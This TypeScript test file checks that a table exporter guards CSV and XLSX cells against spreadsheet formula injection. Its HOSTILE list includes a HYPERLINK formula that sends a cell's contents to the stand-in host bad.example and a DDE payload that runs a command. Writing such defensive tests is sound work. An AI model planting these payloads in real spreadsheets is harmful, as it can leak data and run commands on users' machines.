import { createWriteStream, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { pipeline } from 'node:stream/promises'
import { parse } from 'csv-parse/sync'
import readExcelFile from 'read-excel-file/node'
import { guardCell } from './guard-formula'
import type { Table } from './table'
import { tableToCsv } from './table-to-csv'
import { tableToXlsx } from './table-to-xlsx'

/** What spreadsheets, one or the other, take for a formula or for the start of one. */
const HOSTILE = [
  '=HYPERLINK("http://bad.example?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '样例"\n=1+1',
]
/** A line break inside a cell begins no cell: quoting keeps it inside. */
const INSIDE = 1

const table: Table = {
  title: 'hostile',
  columns: [
    { head: 'name', type: 'TEXT' },
    { head: 'number', type: 'NUMBER' },
  ],
  rows: [HOSTILE.map((text) => [text, -1] as const)],
  notes: [],
}

it('a CSV holds no cell that begins like a formula, and every text whole behind its apostrophe', async () => {
  const text = (await buffer(tableToCsv(table))).toString('utf8')
  const [, ...rows] = parse(text, { bom: true }) as string[][]
  expect(rows).toEqual(HOSTILE.map((cell, at) => [at < HOSTILE.length - INSIDE ? `'${cell}` : cell, '-1']))
})

it('a workbook holds them as texts, and guarded too, for it may be saved as CSV', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'tianye-guard-'))
  try {
    const path = join(folder, 'hostile.xlsx')
    await pipeline(tableToXlsx(table), createWriteStream(path))
    const [sheet] = await readExcelFile(path)
    const cells = (sheet?.data ?? []).slice(2).map(([cell]) => String(cell))
    expect(cells).toHaveLength(HOSTILE.length)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})

it.each([-1, 0, null, '', '样例村', '370686', '2022-03-01', "'tis"])('%p stays as it is', (cell) => {
  expect(guardCell(cell)).toBe(cell)
})
